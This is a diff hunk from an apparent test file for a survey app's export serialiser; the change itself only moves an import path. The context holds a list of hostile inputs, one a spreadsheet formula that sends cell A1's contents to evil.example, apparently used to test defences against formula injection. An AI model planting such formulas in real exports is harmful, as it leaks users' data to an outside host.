@@ -9,7 +9,7 @@ import polars as pl
 import pyreadstat
 import pytest
 
-from surveyapp.export import Column, serialise
+from surveyapp.render.exports import Column, serialise
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
